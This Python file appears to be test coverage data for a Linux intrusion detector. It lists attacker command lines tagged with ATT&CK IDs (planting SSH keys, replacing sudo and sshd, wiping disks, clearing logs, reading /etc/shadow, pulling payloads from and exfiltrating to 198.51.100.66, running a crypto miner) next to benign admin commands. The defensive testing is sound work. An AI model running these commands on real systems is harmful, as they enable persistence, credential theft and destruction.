"""Commands that root, or an account that people log in to, starts with nobody at work: what they write, read and whom they name."""

from tests.detect.coverage.entry import Entry, fact
from tests.detect.coverage.ran import alone, chain, ran, work
from tests.detect.coverage.stage import added, job, mount, together, written

__all__ = ["ENTRIES"]

_SHELL_OF_ANA = 702


def _job(command: str) -> Entry:
    path = "/etc/cron.d/x"
    return fact(
        "T1053.003",
        f"a job: {command}",
        "`crontab`",
        together(added("crontab", job(path, f"root {command}", "17 3 * * *")), written(path)),
        f"cron:{path}",
    )


# fmt: off
_WRITES = (
    ran("T1098.004", "root", "curl -o /root/.ssh/authorized_keys http://mirror.example.org/k"),
    ran("T1098.004", "left", "wget -qO /home/ben/.ssh/authorized_keys2 http://mirror.example.org/k"),
    ran("T1098.004", "root", "install -m 600 /opt/k /root/.ssh/authorized_keys"),
    ran("T1098.004", "root", "rsync -q 10.0.0.8:/k /home/ana/.ssh/authorized_keys"),
    ran("T1053.003", "root", "mv /srv/j /var/spool/cron/crontabs/root"),
    ran("T1053.003", "root", "crontab -u www-data /var/tmp/c"),
    ran("T1546.004", "root", "cp /opt/x /etc/profile.d/lang.sh"),
    ran("T1546.004", "root", "perl -pi -e s/a/b/ /etc/bash.bashrc"),
    ran("T1546.004", "root", "sh -c echo x >> /etc/bash.bashrc"),
    ran("T1543.002", "root", "cp /opt/u.service /etc/systemd/system/u.service"),
    ran("T1543.002", "root", "curl -sSLo /lib/systemd/system/u.service http://mirror.example.org/u"),
    ran("T1574.006", "root", "dd if=/opt/a of=/etc/ld.so.preload"),
    ran("T1556.003", "root", "wget -O /etc/pam.d/sshd http://mirror.example.org/p"),
    ran("T1554", "root", "cp /root/sshd /usr/sbin/sshd"),
    ran("T1554", "root", "curl -so /usr/bin/sudo http://mirror.example.org/sudo"),
    ran("T1554", "root", "python3 -c open('/usr/bin/login','wb').write(b'')"),
    ran("T1611", "root", "sh -c echo '|/opt/x' > /proc/sys/kernel/core_pattern"),
    ran("T1561.001", "root", "sh -c cat /dev/zero > /dev/vda"),
    ran("T1561.001", "root", "cp /opt/img /dev/sda"),
    ran("T1070.002", "root", "mv /var/log/auth.log /tmp/"),
    ran("T1070.002", "root", "mv /var/log/syslog /var/tmp"),
    ran("T1070.002", "root", "cp /opt/clean /var/log/wtmp"),
    ran("T1070.002", "root", "tee /var/log/secure"),
    ran("T1548.001", "root", "install -o root -m 4755 /bin/sh /usr/local/bin/x"),
    ran("T1485", "root", "dd if=/dev/urandom of=/srv/app/data.db bs=1M"),
    ran("T1485", "root", "shred -uz /srv/app/data.db"),
    ran("T1485", "root", "rm -rf /var/lib/postgresql/15/main"),
    ran("T1074.001", "root", "tar -cJf /usr/share/a.txz /var/lib/postgresql"),
)

_READS = (
    ran("T1003.008", "root", "vim /etc/shadow-"),
    ran("T1003.008", "root", "sort /etc/shadow"),
    ran("T1003.008", "root", "cat /var/backups/shadow.bak"),
    ran("T1552.004", "root", "cp /etc/ssh/ssh_host_ed25519_key /srv/k"),
    ran("T1552.004", "left", "find /home -name id_* -type f"),
    ran("T1003.007", "root", "strings /dev/mem"),
    ran("T1005", "root", "dd if=/dev/vda bs=4M"),
    ran("T1005", "root", "cat /dev/vda1"),
    ran("T1552.005", "left", "curl -H Metadata-Flavor:Google http://imds/computeMetadata/v1/"),
)

_NAMES = (
    ran("T1105", "root", "wget -q http://198.51.100.66/x -O /opt/x", talks="far"),
    ran("T1105", "left", "curl -s http://198.51.100.66/k", talks="far"),
    ran("T1105", "root", "bash -c while true; do curl -s http://198.51.100.66/t; sleep 60; done"),
    ran("T1048", "root", "rsync -a /srv/ 198.51.100.66::d", talks="far"),
    ran("T1048", "left", "sftp -b /opt/b x@198.51.100.66", talks="far"),
    ran("T1021.004", "root", "ssh -N x@198.51.100.66", talks="far"),
)

_RUNS = (
    ran("T1059", "root", "bash -c while true; do /run/lock/a; sleep 5; done"),
    ran("T1059", "root", "sh -c . /var/tmp/env; sleep 99"),
    ran("T1564.001", "left", "sh -c while true; do /opt/.u/agent; sleep 10; done"),
    ran("T1059.006", "root", "python3 -", talks="far"),
    ran("T1059.004", "root", "php -r system('/bin/sh');"),
    ran("T1059.004", "root", "capsh --"),
    ran("T1059.004", "root", "ssh -o ProxyCommand=;sh x"),
    ran("T1505.003", "app", "/srv/app/static/css/a"),
    ran("T1505.003", "stray", "perl /var/www/site/uploads/x.pl", subject="process:/var/www/site/uploads/x.pl"),
    ran("T1071", "left", "/home/ana/tool", talks="odd"),
    ran("T1090", "root", "/opt/t/t client gw.example.org:443 R:socks"),
    ran("T1090", "root", "/opt/t/t -L relay+wss://:8443"),
    ran("T1572", "left", "ssh -o RemoteForward=2222:localhost:22 -N gw.example.org"),
    ran("T1021.004", "root", "ssh -F /tmp/.cfg -N jump"),
    ran("T1496", "root", "/opt/p -o pool.example.org:3333 -u 48edfHu7V9Z84YzzMa6fUueoELZ9ZRXq9VetWzYGzKt52XU5xvqgzYnDK9"),
    ran("T1496", "stray", "/opt/p -a cn/r --threads 4"),
    ran("T1611", "root", "nsenter --mount=/proc/1/ns/mnt -- sleep 9"),
    ran("T1610", "left", "docker run -it -v /etc:/mnt alpine sh"),
    ran("T1562.001", "root", "chmod -x /usr/sbin/rsyslogd"),
    ran("T1562.012", "root", "auditctl -a never,exit"),
    ran("T1489", "root", "kill -STOP 33"),
    ran("T1040", "root", "ip link set dev eth0 promisc on"),
)

_JOBS = (
    _job("curl -so /opt/a http://198.51.100.66/a"),
    _job("cp /opt/k /root/.ssh/authorized_keys"),
    _job("/usr/bin/install -m 755 /opt/a /usr/bin/ssh"),
    fact("T1039", "a share of an address outside", "`mounts`", added("mounts", mount("/mnt/x", "198.51.100.66:/x", "nfs4")), "mount:/mnt/x", told_as="T1567"),
)

_AT_WORK = tuple(
    chain(_SHELL_OF_ANA, (0, "/usr/bin/sudo", f"sudo {command}"), (0, f"/usr/bin/{command.split()[0]}", command))
    for command in (
        "cp /home/ana/x.service /etc/systemd/system/x.service",
        "mv tool /usr/bin/tool",
        "install -m 755 tool /usr/bin/tool",
        "curl -fsSLo /usr/share/keyrings/x.gpg https://example.org/key",
        "curl -O https://203.0.113.9/x.tgz",
        "scp x.tgz root@203.0.113.9:/srv",
        "sed -i s/a/b/ /root/.bashrc",
        "shred -u /home/ana/secret.txt",
        "dd if=/dev/sda of=/srv/img bs=4M",
        "kill -STOP 30",
        "crontab /tmp/c",
        "tar czf /var/www/dl/site.tgz /var/www/html",
    )
)

_HARMLESS = (
    work("operators", "what an operator puts into the system, copies and destroys by hand", *_AT_WORK),
    work(
        "services",
        "commands of root's units",
        *alone(
            1, 0,
            "/usr/bin/curl -o /opt/dl/1.2.3.4/x.tgz https://example.org/releases/1.2.3.4/x.tgz",
            "/usr/bin/rsync -a /srv/ backup.example.org:/srv",
            "/usr/bin/rsync -a /srv/ 10.0.0.9:/srv",
            "/usr/bin/sh -c kill -HUP $(cat /tmp/app.pid)",
            "/usr/bin/sh -c . /etc/default/app; exec /usr/bin/app >> /var/log/app.log",
            "/usr/bin/cp /etc/app.conf.dist /etc/app.conf",
            "/usr/bin/install -d -m 0755 /run/app",
            "/usr/bin/sed -i s/a/b/ /etc/nginx/nginx.conf",
            "/usr/bin/dd if=/dev/sda of=/var/backups/mbr bs=512 count=1",
            "/usr/bin/tee -a /var/log/app.log",
            "/usr/bin/docker run --rm -v /etc/localtime:/etc/localtime:ro nginx",
            "/usr/sbin/openvpn --cd /etc/openvpn --config /etc/openvpn/server.conf",
            "/usr/bin/shred -u /tmp/key",
        ),
    ),
)
# fmt: on
ENTRIES: tuple[Entry, ...] = (*_WRITES, *_READS, *_NAMES, *_RUNS, *_JOBS, *_HARMLESS)
